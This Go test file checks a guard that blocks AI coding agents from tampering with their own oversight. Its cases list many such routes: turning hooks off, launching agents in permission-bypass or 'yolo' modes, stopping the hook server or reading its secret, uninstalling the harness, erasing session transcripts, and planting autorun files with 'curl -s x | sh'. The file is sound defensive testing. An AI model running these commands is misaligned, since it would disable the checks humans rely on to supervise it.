package danger

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hookkit/harness/lib/dialect"
)

// TestPackTamper names the rule of the guard tampering pack each command must be decided by ("": allowed).
func TestPackTamper(t *testing.T) {
	checkPack(t, []packCase{
		{"rm -rf ~/.claude/projects", "tamper.agent-state"},
		{"truncate -s 0 ~/.claude/projects/-home-dev-proj/*.jsonl", "tamper.agent-state"},
		{"rm -f ~/.claude.json", "tamper.agent-state"},
		{": > ~/.claude/history.jsonl", "tamper.agent-state"},
		{"ls ~/.claude/projects", ""},
		{"rm ~/.claude/commands/old.md", ""},
		{"cp ~/.claude.json /tmp/claude.json.bak", ""},
		{"echo '{\"disableAllHooks\": true}' > ~/.claude/settings.json", "tamper.disable-hooks"},
		// Every client's switch, into its project settings, by the shell.
		{"echo '{\"disableAllHooks\": true}' > .qoder/settings.json", "tamper.disable-hooks"},
		{"echo '{\"hooksConfig\": {\"enabled\": false}}' > .qoder/settings.local.json", "tamper.disable-hooks"},
		{"jq '.hooksConfig.enabled = false' .gemini/settings.json > /tmp/s.json", "tamper.disable-hooks"},
		{"cat > .gemini/settings.json <<'EOF'\n{\"hooksConfig\": {\"enabled\": false}}\nEOF", "tamper.disable-hooks"},
		{"echo 'set hooksConfig in the docs' > notes.md", ""},
		{"echo '{}' > .qoder/settings.json", "tamper.planted"},
		{"rm -rf ~/.claude/harness", "tamper.harness"},
		{"pkill -f WriteProtector", "tamper.kill-hooks"},
		{"pkill -f 'harness serve'", "tamper.kill-hooks"},

		// Serve mode's server: stopping it, or running one in the session.
		{"systemctl --user stop harness-serve.socket harness-serve.service", "tamper.serve"},
		{"systemctl --user mask harness-serve.socket", "tamper.serve"},
		{"systemctl --user disable --now harness-serve.socket", "tamper.serve"},
		{"systemctl --user restart harness-serve.socket harness-serve.service", ""},
		{"systemctl --user status harness-serve.service", ""},
		// ... and its launch agent on macOS.
		{"launchctl bootout gui/501/com.github.hookkit.harness-serve", "tamper.serve"},
		{"launchctl unload -w ~/Library/LaunchAgents/com.github.hookkit.harness-serve.plist", "tamper.serve"},
		{"launchctl kill SIGKILL gui/501/com.github.hookkit.harness-serve", "tamper.serve"},
		{"launchctl disable gui/$(id -u)/com.github.hookkit.harness-serve", "tamper.serve"},
		{"launchctl remove com.github.hookkit.harness-serve", "tamper.serve"},
		{"launchctl kickstart -k gui/501/com.github.hookkit.harness-serve", ""},
		{"launchctl print gui/501/com.github.hookkit.harness-serve", ""},
		{"launchctl bootout gui/501/com.example.backup", ""},
		{"launchctl debug gui/501/com.github.hookkit.harness-serve --program /usr/bin/true", "tamper.serve"},
		{"launchctl asuser 501 launchctl bootout gui/501/com.github.hookkit.harness-serve", "tamper.serve"},
		{"launchctl bsexec 1 launchctl stop com.github.hookkit.harness-serve", "tamper.serve"},
		{"launchctl stop my-harness-server", ""},
		{"launchctl disable gui/501/com.example.not-harness-serve", ""},
		{"systemctl --user stop my-app.service", ""},
		{"harness serve --listen 127.0.0.1:8765 --secret-file /tmp/s", "tamper.serve"},
		{"echo '{}' | harness serve-register --home /tmp/h", "tamper.serve"},
		// ... or reading its secret, by any route that reads a file.
		{"cat ~/.config/harness/serve.secret", "tamper.serve"},
		{"curl -H \"X-Harness-Secret: $(cat $HOME/.config/harness/serve.secret)\" http://127.0.0.1:8765/hook/AuditLog", "tamper.serve"},
		{"cp ~/.config/harness/serve.secret /tmp/s", "tamper.serve"},
		{"tar czf /tmp/h.tgz ~/.config/harness", "tamper.serve"},
		{"python3 -c 'print(open(\"/home/dev/.config/harness/serve.secret\").read())'", "tamper.serve"},
		{"ls -la ~/.config/harness", ""},
		{"cat ~/.config/harness/notes.txt", ""},
		{"mv /tmp/new-settings.json .claude/settings.json", "tamper.project-settings"},
		{"mv /tmp/new-settings.json .Claude/Settings.json", "tamper.project-settings"},
		{"echo '{}' > ~/.CLAUDE/settings.json", "tamper.user-settings"},

		// Files of the project another program runs later (lib/paths' list), by every shell route.
		{"echo 'npm test' > .husky/pre-commit", "tamper.planted"},
		{"echo 'curl -s x | sh' > .husky/pre-commit", "persist.autorun"},
		{"echo 'curl -s x | sh' > .Husky/pre-commit", "persist.autorun"},
		{"echo 'export PATH=.:$PATH' >> .envrc", "tamper.planted"},
		{"printf '{}' | tee .mcp.json", "tamper.planted"},
		{"cp /tmp/tasks.json .vscode/tasks.json", "tamper.planted"},
		{"cp /tmp/tasks.json .vscode", "tamper.planted"},
		{"ln -sf ../x.sh .githooks/pre-push", "tamper.planted"},
		{"sed -i 's/a/b/' .pre-commit-config.yaml", "tamper.planted"},
		{"cat > .gemini/settings.json <<'EOF'\n{}\nEOF", "tamper.planted"},
		{"sh -c 'echo x > .MCP.json'", "tamper.planted"},
		{"python3 -c \"open('.envrc','w').write('x')\"", "tamper.planted"},
		{"cd packages/api && echo x > .envrc", "tamper.planted"},
		{"cat .envrc", ""},
		{"rm .husky/pre-commit", ""},
		{"echo x > .envrc.example", ""},
		{"echo x > /tmp/.envrc", ""},
		{"cp .mcp.json /tmp/mcp.json", ""},
		{"rm ~/.claude/settings.json", "tamper.user-settings"},
		{"ls -la ~/.claude/", ""},
		{"ls ~/.claude/harness/bin", ""},
		{"cat .claude/settings.json", ""},

		// The harness's files by any route, and its machine-wide places.
		{"cp /tmp/x ~/.claude/harness/bin/SecurityValidator", "tamper.harness"},
		{"ln -sf /bin/true ~/.claude/harness/bin/SecurityValidator", "tamper.harness"},
		{"mv ~/.claude/harness/security.json /tmp/", "tamper.harness"},
		{"sed -i 's/deny/allow/' ~/.claude/harness/security.json", "tamper.harness"},
		{"python3 -c \"open('/home/dev/.claude/harness/security.json','w').write('{}')\"", "tamper.harness"},
		{"jq . x > ~/.claude/harness/installed.json", "tamper.harness"},
		{"rm /opt/harness/bin/SecurityValidator", "tamper.harness"},
		{"sudo rm -rf /opt/harness", "tamper.harness"},
		{"echo '{}' > /etc/harness/security.json", "tamper.harness"},
		{"cp ~/.claude/harness/security.json /tmp/sec.json", ""},

		// The harness CLI: what changes the install is denied, what reads stays silent.
		{"/home/dev/.claude/harness/bin/harness uninstall --purge", "tamper.harness-cli"},
		{"~/.claude/harness/bin/harness uninstall", "tamper.harness-cli"},
		{"harness uninstall --force", "tamper.harness-cli"},
		{"/opt/harness/bin/harness uninstall --managed", "tamper.harness-cli"},
		{"harness install", "tamper.harness-cli"},
		{"harness install --scope project --only SecurityValidator", "tamper.harness-cli"},
		{"sudo harness install --managed --prefix /opt/harness", "tamper.harness-cli"},
		{"harness uninstall --purge --dry-run=false", "tamper.harness-cli"},
		{"env HARNESS_HOME=/tmp/h harness uninstall --purge", "tamper.harness-cli"},
		{"bash -c 'harness uninstall --purge'", "tamper.harness-cli"},
		{"echo uninstall | xargs harness", "tamper.harness-cli"},
		{"harness $CMD", "tamper.harness-cli"},
		{"go run ./cmd/harness uninstall --purge", "tamper.harness-cli"},
		{"cd ~/src/harness && ./install.sh", "tamper.harness-cli"},
		{"cd ~/src/harness && sh install.sh --uninstall --purge", "tamper.harness-cli"},
		{"~/src/harness/install.sh --client codex", "tamper.harness-cli"},
		{"harness install --managed --print", ""},
		{"harness status", ""},
		{"harness rules --json", ""},
		{"harness doctor", ""},
		{"harness validate ~/.claude/settings.json", ""},
		{"harness audit tail -n 20", ""},
		{"harness audit why toolu_01", ""},
		{"harness audit top", ""},
		{"harness audit verify", ""},
		{"harness events PreToolUse", ""},
		{"harness describe", ""},
		{"harness --help", ""},
		{"harness uninstall --help", ""},
		{"go run ./cmd/harness status", ""},
		{"cd ~/src/harness && ./install.sh --dry-run", ""},
		{"./install.sh", ""},
		{"echo 'run harness uninstall --purge to remove it'", ""},
		{"grep -rn 'harness uninstall' docs", ""},

		// Agents started with their hooks off.
		{"claude --bare -p hi --dangerously-skip-permissions", "tamper.agent-hooks-off"},
		{"claude --safe-mode -p hi", "tamper.agent-hooks-off"},
		{"claude --restricted --tools Bash -p hi", "tamper.agent-hooks-off"},
		{"CLAUDE_CODE_SIMPLE=1 claude -p hi", "tamper.agent-hooks-off"},
		{"env CLAUDE_CODE_SAFE_MODE=true claude -p hi", "tamper.agent-hooks-off"},
		{"export CLAUDE_CODE_SIMPLE=1; claude -p hi", "tamper.agent-hooks-off"},
		{"CLAUDE_CODE_SIMPLE=1 bash -c 'claude -p hi'", "tamper.agent-hooks-off"},
		{"npx @anthropic-ai/claude-code --bare -p hi", "tamper.agent-hooks-off"},
		{"npx -y @anthropic-ai/claude-code@2.1.332 --bare -p hi", "tamper.agent-hooks-off"},
		{"timeout 60 claude --bare -p hi", "tamper.agent-hooks-off"},
		{"python3 -c \"import subprocess; subprocess.run(['claude','--bare','-p','hi'])\"", "tamper.agent-hooks-off"},
		{"claude -p hi --setting-sources project,local", "tamper.agent-hooks-off"},
		{"claude -p hi --setting-sources=user", "tamper.agent-hooks-off"},
		{"claude -p hi --setting-sources ''", "tamper.agent-hooks-off"},
		{"claude -p hi --settings '{\"disableAllHooks\": true}'", "tamper.agent-hooks-off"},
		{"claude -p hi --settings '{\"allowManagedHooksOnly\": true}'", "tamper.agent-hooks-off"},
		{"codex --disable hooks exec hi", "tamper.agent-hooks-off"},
		{"codex exec -c features.hooks=false hi", "tamper.agent-hooks-off"},
		{"qwen --safe-mode -p hi", "tamper.agent-hooks-off"},

		// Agents started approving every call themselves.
		{"claude -p hi --dangerously-skip-permissions", "tamper.agent-approvals-off"},
		{"claude -p hi --permission-mode bypassPermissions", "tamper.agent-approvals-off"},
		{"claude -p hi --permission-mode=bypassPermissions", "tamper.agent-approvals-off"},
		{"claude -p hi --settings '{\"permissions\": {\"defaultMode\": \"bypassPermissions\"}}'", "tamper.agent-approvals-off"},
		{"sudo -u dev claude -p hi --dangerously-skip-permissions", "tamper.agent-approvals-off"},
		{"codex exec --dangerously-bypass-approvals-and-sandbox 'fix it'", "tamper.agent-approvals-off"},
		{"codex exec --yolo 'fix it'", "tamper.agent-approvals-off"},
		{"npx @openai/codex exec --yolo hi", "tamper.agent-approvals-off"},
		{"gemini -p hi --yolo", "tamper.agent-approvals-off"},
		{"gemini -p hi -y", "tamper.agent-approvals-off"},
		{"gemini -p hi --approval-mode yolo", "tamper.agent-approvals-off"},
		{"npx @google/gemini-cli -p hi --approval-mode=yolo", "tamper.agent-approvals-off"},
		{"qwen -p hi --yolo", "tamper.agent-approvals-off"},
		{"qwen -p hi --approval-mode yolo", "tamper.agent-approvals-off"},
		{"copilot -p hi --allow-all-tools", "tamper.agent-approvals-off"},
		{"copilot -p hi --allow-all", "tamper.agent-approvals-off"},
		{"copilot -p hi --yolo", "tamper.agent-approvals-off"},
		{"COPILOT_ALLOW_ALL=true copilot -p hi", "tamper.agent-approvals-off"},
		{"droid exec --skip-permissions-unsafe hi", "tamper.agent-approvals-off"},
		{"kimi --yolo -p hi", "tamper.agent-approvals-off"},
		{"docker-agent run agent.yaml --exec --yolo", "tamper.agent-approvals-off"},
		{"nohup codex exec --yolo hi &", "tamper.agent-approvals-off"},

		// Agents as they are installed, and text that only mentions the flags.
		{"claude -p hi", ""},
		{"claude -p 'why does --bare skip hooks?'", ""},
		{"claude -p hi --permission-mode acceptEdits", ""},
		{"claude -p hi --setting-sources user,project,local", ""},
		{"claude -p hi --settings '{\"model\": \"opus\"}'", ""},
		{"claude -p hi --settings /tmp/no-such-settings.json", ""},
		{"claude mcp add srv -- npx srv --yolo", ""},
		{"claude --version", ""},
		{"claude --help", ""},
		{"export CLAUDE_CODE_SIMPLE=0; claude -p hi", ""},
		{"codex exec 'explain main.go'", ""},
		{"gemini -p hi --approval-mode auto_edit", ""},
		{"copilot -p hi", ""},
		{"droid exec hi", ""},
		{"man claude", ""},
		{"which claude codex gemini", ""},
		{"echo claude --bare --dangerously-skip-permissions", ""},
		{"grep -rn -- --yolo docs", ""},
		{"git commit -m 'deny claude --bare and codex --yolo'", ""},
	})
}

// A settings file handed to claude --settings is read: one that switches the hooks off is denied,
// as is install.sh in a checkout of the harness wherever it lives.
func TestPackTamperFiles(t *testing.T) {
	dir := t.TempDir()
	off := filepath.Join(dir, "off.json")
	os.WriteFile(off, []byte(`{"disableAllHooks": true}`), 0o644)
	plain := filepath.Join(dir, "plain.json")
	os.WriteFile(plain, []byte(`{"model": "opus"}`), 0o644)
	repo := filepath.Join(dir, "checkout")
	os.MkdirAll(filepath.Join(repo, "hooks", "SecurityValidator"), 0o755)
	os.WriteFile(filepath.Join(repo, "hooks", "SecurityValidator", "main.go"), []byte("package main\n"), 0o644)
	other := filepath.Join(dir, "other")
	os.MkdirAll(other, 0o755)
	checkPack(t, []packCase{
		{"claude -p hi --settings " + off, "tamper.agent-hooks-off"},
		{"claude -p hi --settings " + plain, ""},
		{"cd " + repo + " && ./install.sh --uninstall", "tamper.harness-cli"},
		{"bash " + repo + "/install.sh", "tamper.harness-cli"},
		{"cd " + other + " && ./install.sh --uninstall", ""},
	})
}

// The switches the shell route looks for are those the clients' declarations name.
func TestHookSwitchesFollowDeclarations(t *testing.T) {
	var want []string
	for _, d := range dialect.All() {
		for _, s := range d.Files.Off {
			key, _, _ := strings.Cut(s.Path, ".")
			if !slices.Contains(want, key) {
				want = append(want, key)
			}
		}
	}
	slices.Sort(want)
	got := slices.Sorted(slices.Values(hookSwitches))
	if !slices.Equal(got, want) {
		t.Errorf("hookSwitches %q, the declarations' switches %q", got, want)
	}
}

// TestServePortBind: with serve mode installed (its socket unit in the account's home), a
// command that would listen on its port is denied; other ports, clients of the port and a home
// without serve mode are not.
func TestServePortBind(t *testing.T) {
	home := t.TempDir()
	unit := filepath.Join(home, ".config", "systemd", "user", "harness-serve.socket")
	if err := os.MkdirAll(filepath.Dir(unit), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(unit, []byte("[Socket]\nListenStream=127.0.0.1:8765\nAccept=no\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	bare := t.TempDir() // no serve mode
	mac := t.TempDir()  // serve mode's launch agent, on port 9876
	agent := filepath.Join(mac, "Library", "LaunchAgents", "com.github.hookkit.harness-serve.plist")
	os.MkdirAll(filepath.Dir(agent), 0o755)
	if err := os.WriteFile(agent, []byte("<dict>\n\t\t\t<key>SockServiceName</key>\n\t\t\t<string>9876</string>\n</dict>\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		home, cmd, want string
	}{
		{home, "nc -l 8765", "tamper.serve"},
		{home, "nc -lk -p 8765", "tamper.serve"},
		{home, "socat TCP-LISTEN:8765,fork,reuseaddr EXEC:/bin/cat", "tamper.serve"},
		{home, "python3 -m http.server 8765 --bind 127.0.0.1", "tamper.serve"},
		{home, "php -S 127.0.0.1:8765", "tamper.serve"},
		{home, "npx http-server --port=8765", "tamper.serve"},
		{home, "python3 -m http.server 8000", ""},
		{home, "curl -s 127.0.0.1:8765/hook/AuditLog", ""},
		{home, "head -n 8765 big.log", ""},
		{bare, "nc -l 8765", ""},
		{mac, "nc -l 9876", "tamper.serve"},
		{mac, "python3 -m http.server --bind 127.0.0.1 9876", "tamper.serve"},
		{mac, "nc -l 8765", ""},
		// Its agent by a glob, its folder or its whole domain, while it is installed.
		{mac, "launchctl unload ~/Library/LaunchAgents/com.github.hookkit.*.plist", "tamper.serve"},
		{mac, "launchctl unload ~/Library/LaunchAgents", "tamper.serve"},
		{mac, "launchctl bootout gui/501 ~/Library/LaunchAgents", "tamper.serve"},
		{mac, "launchctl bootout gui/501", "tamper.serve"},
		{mac, "launchctl unload -D user", "tamper.serve"},
		{mac, "launchctl bootout gui/501 ~/Library/LaunchAgents/com.example.backup.plist", ""},
		{bare, "launchctl unload ~/Library/LaunchAgents", ""},
		{bare, "launchctl bootout gui/501", ""},
	} {
		w := testWorld("")
		w.Home, w.Cwd, w.Project = tt.home, tt.home+"/proj", tt.home+"/proj"
		v := Judge(tt.cmd, Input{World: w, OwnerHome: tt.home})
		got := ""
		if len(v.Findings) > 0 && v.Action > Allow {
			got = v.Findings[0].Rule
		}
		if got != tt.want {
			t.Errorf("%q (home %s): rule %q, want %q", tt.cmd, map[string]string{home: "with serve mode", mac: "with its launch agent", bare: "without"}[tt.home], got, tt.want)
		}
	}
}

// TestHarnessRoutes: the harness CLI and its install.sh by the routes a red-team pass found
// silent, each the uninstall it is; and the harness's files given another name, locked or
// filled with entries. Their look-alikes stay silent.
func TestHarnessRoutes(t *testing.T) {
	checkPack(t, []packCase{
		// The last --dry-run decides, in every spelling of false.
		{"harness uninstall --purge --dry-run=0", "tamper.harness-cli"},
		{"harness uninstall --dry-run=FALSE", "tamper.harness-cli"},
		{"harness uninstall --dry-run --dry-run=false", "tamper.harness-cli"},
		{"harness uninstall --dry-run=false --dry-run", ""},
		{"harness -- uninstall", "tamper.harness-cli"},
		{"harness -- serve --listen 127.0.0.1:9", "tamper.serve"},
		// audit: ship elsewhere, a report written over a protected file.
		{"harness audit ship --endpoint http://127.0.0.1:9999", "tamper.harness-cli"},
		{"harness audit ship --endpoint=http://127.0.0.1:9999", "tamper.harness-cli"},
		{"harness audit ship", ""},
		{"harness audit report --html ~/.claude/settings.json", "tamper.user-settings"},
		{"harness audit --project /home/dev/proj report --html=/home/dev/.claude/harness/bin/AuditLog", "tamper.harness"},
		{"harness audit report --html report.html", ""},
		{"harness audit report --html -", ""},
		// install.sh sourced or fed to a shell; go run of the CLI by a file or a folder.
		{"cd ~/src/harness && . ./install.sh --uninstall", "tamper.harness-cli"},
		{"cd ~/src/harness && source install.sh", "tamper.harness-cli"},
		{"cd ~/src/harness && cat install.sh | bash -s -- --uninstall", "tamper.harness-cli"},
		{"cd ~/src/harness && bash < install.sh", "tamper.harness-cli"},
		{"go run ~/src/harness/cmd/harness/main.go uninstall", "tamper.harness-cli"},
		{"go run -C ~/src/harness ./cmd/harness uninstall --purge", "tamper.harness-cli"},
		{"cd ~/src/harness/cmd/harness && go run . uninstall", "tamper.harness-cli"},
		{"go run -C ~/src/harness ./cmd/harness status", ""},
		{"cd ~/src/other && cat install.sh | bash", ""},
		// Another name for its programs, a hard link of a protected file, entries and locks.
		{"cp ~/.claude/harness/bin/harness ./h && ./h uninstall", "tamper.harness"},
		{"ln -s ~/.claude/harness/bin/harness ~/bin/h", "tamper.harness"},
		{"cp -r ~/.claude/harness /tmp/hh", "tamper.harness"},
		{"ln ~/.claude/harness/bin/WriteProtector wp", "tamper.harness"},
		{"ln ~/.claude/settings.json s.json", "tamper.user-settings"},
		{"ln .claude/settings.local.json x.json", "tamper.project-settings"},
		{"flock ~/.claude/harness/audit/.lock sleep 600", "tamper.harness"},
		{"flock ~/.claude/harness/audit/.lock -c 'sleep 600'", "tamper.harness"},
		{"mkfifo ~/.claude/harness/audit/x", "tamper.harness"},
		{"mkdir -p ~/.claude/harness/hooks.d", "tamper.harness"},
		{"cp -a ~/.claude/harness/audit /tmp/audit-copy", ""},
		{"ln -s ../shared/config.json config.json", ""},
		{"ln a.txt b.txt", ""},
		{"flock /tmp/build.lock make", ""},
		{"mkdir -p build/out", ""},
	})
}

// TestProtectedWritesByOtherRoutes: the protected files written by an editor run without a
// person at it, a patch given on stdin, an interpreter's copy or move, json.tool, xxd and
// script; the same routes elsewhere stay silent.
func TestProtectedWritesByOtherRoutes(t *testing.T) {
	checkPack(t, []packCase{
		{"vim -es -c '%s/x/y/' -c wq ~/.claude/settings.json", "tamper.user-settings"},
		{"ex -s ~/.claude/harness/bin/WriteProtector <<'EOF'\n%d\nwq\nEOF", "tamper.harness"},
		{"ed -s .claude/settings.local.json <<'EOF'\na\n{\"disableAllHooks\": true}\n.\nw\nEOF", "tamper.disable-hooks"},
		{"emacs --batch ~/.claude/settings.json --eval '(save-buffer)'", "tamper.user-settings"},
		{"vim -es -c wq README.md", ""},
		{"cd ~ && git apply <<'EOF'\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{\"model\": \"x\"}\nEOF", "tamper.user-settings"},
		{"git apply --unsafe-paths --directory=$HOME <<'EOF'\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{}\nEOF", "tamper.user-settings"},
		{"cd ~/.claude/harness && patch -p1 <<'EOF'\n--- a/security.json\n+++ b/security.json\n@@ -0,0 +1 @@\n+{}\nEOF", "tamper.harness"},
		{"patch <<'EOF'\n--- .claude/settings.local.json\n+++ .claude/settings.local.json\n@@ -0,0 +1 @@\n+{}\nEOF", "tamper.project-settings"},
		{"git apply <<'EOF'\n--- a/src/main.go\n+++ b/src/main.go\n@@ -1 +1 @@\n-x\n+y\nEOF", ""},
		{"git apply --check <<'EOF'\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\nEOF", ""},
		{`python3 -c 'import shutil; shutil.copy("/tmp/x", "/home/dev/.claude/settings.json")'`, "tamper.user-settings"},
		{`python3 -c 'import os; os.rename(os.path.expanduser("~/.claude/harness/audit"), "/tmp/a")'`, "tamper.harness"},
		{`node -e 'require("fs").copyFileSync("/tmp/x", "/home/dev/.claude/harness/bin/WriteProtector")'`, "tamper.harness"},
		{`perl -e 'rename("/tmp/x", "/home/dev/.claude/settings.json")'`, "tamper.user-settings"},
		{`python3 -c 'import shutil; shutil.copy("a.txt", "b.txt")'`, ""},
		{`python3 -c 'import pandas as pd; df = pd.DataFrame(); df.rename(columns={"a": "b"})'`, ""},
		{"python3 -m json.tool x.json ~/.claude/settings.json", "tamper.user-settings"},
		{"python3 -m json.tool in.json out.json", ""},
		{"xxd -r x.hex ~/.claude/harness/bin/AuditLog", "tamper.harness"},
		{"xxd data.bin dump.txt", ""},
		{"script -q ~/.claude/settings.json", "tamper.user-settings"},
		{"script -q -c 'make test' build.log", ""},
	})
}

// TestUnknownFolder: a write whose folder is known only when it runs, into Claude Code's
// settings or the harness's home by the part that is known.
func TestUnknownFolder(t *testing.T) {
	checkPack(t, []packCase{
		{`echo {} > "$(getent passwd root | cut -d: -f6)/.claude/settings.json"`, "tamper.user-settings"},
		{`cp x "$(eval echo ~$USER)/.claude/harness/bin/AuditLog"`, "tamper.harness"},
		{`echo '{}' > "$SOMEWHERE/.Claude/settings.local.json"`, "tamper.user-settings"},
		{`echo hi > "$OUT/notes.txt"`, ""},
		{`cp settings.json "$BACKUP/settings.json"`, ""},
	})
}
